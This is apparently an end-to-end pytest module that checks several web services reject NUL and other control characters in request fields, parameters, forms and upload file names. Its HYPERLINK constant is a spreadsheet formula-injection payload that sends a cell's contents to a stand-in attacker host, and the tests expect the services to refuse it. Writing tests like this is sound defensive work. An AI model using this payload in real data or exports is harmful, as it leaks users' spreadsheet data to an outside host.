"""Control characters and NUL, end to end, generated from the running services' OpenAPI
documents (so a new field or route is covered without being listed):

- every text field of every request body, with NUL and with each C0/C1 control (and
  the Unicode line separators) at its start: 422 naming the field; passwords: NUL;
- NUL in every path and query parameter of every operation: 422 naming it;
- the reproductions of the report (500s before), a lone surrogate, the set-password
  form and an upload's file name; and the services still answer afterwards.
"""

from __future__ import annotations

import asyncio
import secrets
import uuid
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from prodigy_users.stack import SERVICES
from tests.openapi_text import StringField, body_with, string_fields
from tests.support import Admin, Api, bearer

pytestmark = pytest.mark.e2e

CONTROLS = [
    *(chr(c) for c in range(0x20)),
    "\x7f",
    *(chr(c) for c in range(0x80, 0xA0)),
    "\u2028",
    "\u2029",
]
SEPARATORS = {"\t", "\n", "\r"}
HYPERLINK = '\u0001=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


@pytest.fixture(scope="module")
async def admin(api: Api) -> Admin:
    return await api.create_department()


@pytest.fixture(scope="module")
async def documents(api: Api) -> dict[str, dict[str, Any]]:
    out = {}
    for service in SERVICES:
        r = await api.http.get(api.url(service, "/openapi.json"))
        assert r.status_code == 200
        out[service] = r.json()
    return out


def headers_for(api: Api, admin: Admin, path: str, operation: dict[str, Any]) -> dict[str, str]:
    """Who may call it: the department's admin, an operator, or (public routes) anyone."""
    if operation.get("operationId") in ("create_department", "issue_password_link"):
        return bearer(api.keys.operator_token())
    if "{dept}" in path or path.startswith(("/v1/me", "/v1/operations", "/v1/reports")):
        return admin.headers
    if path.startswith("/v1/notifications"):
        return admin.headers
    return {}


def concrete(path: str, admin: Admin, spoil: str | None = None) -> str:
    """The path with its parameters filled in (``spoil``: that one holds a NUL)."""
    out = path
    for name in [p[1:-1] for p in path.split("/") if p.startswith("{")]:
        value = admin.department_id if name == "dept" else str(uuid.uuid4())
        if name == "token":
            # A token of its own per request: each link is throttled per token.
            value = secrets.token_urlsafe(32)
        if name == spoil:
            value = quote(value[:4] + "\x00" + value[4:], safe="")
        out = out.replace("{" + name + "}", value)
    return out


def names_field(body: dict[str, Any], field: StringField) -> bool:
    """Whether a problem's errors name the field (a list's item may be named by its list)."""
    named = {e["field"] for e in body.get("errors", [])}
    whole = ".".join(p for p in field.field if p != "0")
    return field.name in named or whole in named


async def _send(
    api: Api, admin: Admin, service: str, document: dict[str, Any], field: StringField, value: str
) -> httpx.Response:
    operation = document["paths"][field.path][field.method]
    body = body_with(document, operation, field.field, value)
    return await api.http.request(
        field.method.upper(),
        api.url(service, concrete(field.path, admin)),
        json=body,
        headers=headers_for(api, admin, field.path, operation),
    )


async def test_every_text_field_refuses_every_control_character(
    api: Api, admin: Admin, documents: dict[str, dict[str, Any]]
) -> None:
    cases: list[tuple[str, StringField, str]] = []
    for service, document in documents.items():
        for field in string_fields(document):
            if field.kind == "text":
                cases += [(service, field, c) for c in CONTROLS]
            elif field.kind == "pasted":
                cases += [(service, field, c) for c in CONTROLS if c not in SEPARATORS]
            elif field.kind == "secret":
                cases.append((service, field, "\x00"))
    fields = {(s, f.operation, f.name) for s, f, _ in cases}
    assert len(fields) >= 20, sorted(fields)  # the documents were read
    turns = asyncio.Semaphore(8)
    failures: list[str] = []

    async def one(service: str, field: StringField, char: str) -> None:
        value = char + "ana@example.org" if char != "\x00" else "ana\x00@example.org"
        async with turns:
            r = await _send(api, admin, service, documents[service], field, value)
        body = r.json() if r.headers.get("content-type", "").endswith("json") else {}
        ok = r.status_code == 422 and names_field(body, field)
        ok = ok and f"U+{ord(char):04X}" in str(body.get("errors"))
        if not ok:
            failures.append(
                f"{service} {field.operation} {field.name} U+{ord(char):04X}: "
                f"{r.status_code} {r.text[:200]}"
            )

    await asyncio.gather(*(one(*case) for case in cases))
    assert failures == [], f"{len(failures)} of {len(cases)}:\n" + "\n".join(failures[:30])


async def test_nul_in_any_path_or_query_parameter_is_refused_naming_it(
    api: Api, admin: Admin, documents: dict[str, dict[str, Any]]
) -> None:
    failures: list[str] = []
    checked = 0
    for service, document in documents.items():
        for path, item in document["paths"].items():
            for method, operation in item.items():
                if method not in ("get", "post", "put", "patch", "delete"):
                    continue
                headers = headers_for(api, admin, path, operation)
                for parameter in operation.get("parameters", []):
                    where, name = parameter["in"], parameter["name"]
                    if where == "path":
                        url = api.url(service, concrete(path, admin, spoil=name))
                    elif where == "query":
                        url = api.url(service, concrete(path, admin)) + f"?{name}=a%00b"
                    else:
                        continue
                    r = await api.http.request(method.upper(), url, headers=headers)
                    checked += 1
                    fields = [e["field"] for e in r.json().get("errors", [])]
                    if r.status_code != 422 or fields != [name]:
                        failures.append(f"{method} {path} {where} {name}: {r.status_code} {fields}")
    assert checked >= 40
    assert failures == [], "\n".join(failures)


async def test_the_reported_inputs_are_refused_not_500(api: Api, admin: Admin) -> None:
    dept = f"/v1/departments/{admin.department_id}"
    h = admin.headers
    post = api.http.post
    r = await post(
        api.url("membership", f"{dept}/groups"), json={"name": "Night\u0000shift"}, headers=h
    )
    assert (r.status_code, r.json()["errors"][0]["field"]) == (422, "name"), r.text
    r = await api.add_member(admin, "nul@example.org", name="Nul\u0000Name")
    assert (r.status_code, r.json()["errors"][0]["field"]) == (422, "name"), r.text
    r = await post(
        api.url("membership", f"{dept}/registration-link"),
        json={"allowed_domains": ["x\u0000y.org"]},
        headers=h,
    )
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "allowed_domains.0"
    r = await api.add_member(admin, "hyperlink@example.org", name=HYPERLINK)
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "name", r.text
    assert "U+0001" in r.json()["errors"][0]["message"]
    # The anonymous registration link refuses it too.
    r = await post(api.url("membership", f"{dept}/registration-link"), json={}, headers=h)
    assert r.status_code == 201, r.text
    token = r.json()["url"].rsplit("/", 1)[-1]
    r = await post(
        api.url("membership", f"/v1/join/{token}"),
        json={"name": HYPERLINK, "email": "joiner@example.org", "password": "a long passphrase"},
    )
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "name", r.text
    # A lone surrogate cannot be stored either.
    r = await post(
        api.url("membership", f"{dept}/groups"),
        content=b'{"name": "x\\ud800"}',
        headers={**h, "content-type": "application/json"},
    )
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "name", r.text
    # And afterwards everything still works.
    r = await post(api.url("membership", f"{dept}/groups"), json={"name": "Night shift"}, headers=h)
    assert r.status_code == 201, r.text


async def test_forms_and_file_names(api: Api, admin: Admin) -> None:
    r = await api.http.post(
        api.url("identity", "/set-password"), data={"token": "t\x00", "password": "p"}
    )
    assert r.status_code == 422 and r.json()["errors"] == [
        {"field": "token", "message": "must not contain U+0000 (NUL)"}
    ]
    url = api.url("membership", f"/v1/departments/{admin.department_id}/imports")
    csv_body = b"Name,Email\r\nAna,ana-name@example.org\r\n"
    raw = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="users\x00.csv"\r\n\r\n'
        + csv_body
        + b"\r\n--b--\r\n"
    )
    r = await api.http.post(
        url,
        content=raw,
        params={"dry_run": "true"},
        headers={**admin.headers, "content-type": "multipart/form-data; boundary=b"},
    )
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "file", r.text
    # Other control characters in a file's name are dropped from the stored name (sent
    # raw: httpx would percent-encode them).
    raw = (
        b'--b\r\nContent-Disposition: form-data; name="file"; '
        b'filename="users\x01\xc2\x85list.csv"\r\n\r\n' + csv_body + b"\r\n--b--\r\n"
    )
    r = await api.http.post(
        url,
        content=raw,
        params={"dry_run": "true"},
        headers={**admin.headers, "content-type": "multipart/form-data; boundary=b"},
    )
    assert r.status_code == 202, r.text
    r = await api.http.get(api.url("membership", r.json()["import_url"]), headers=admin.headers)
    assert r.json()["file_name"] == "users list.csv"
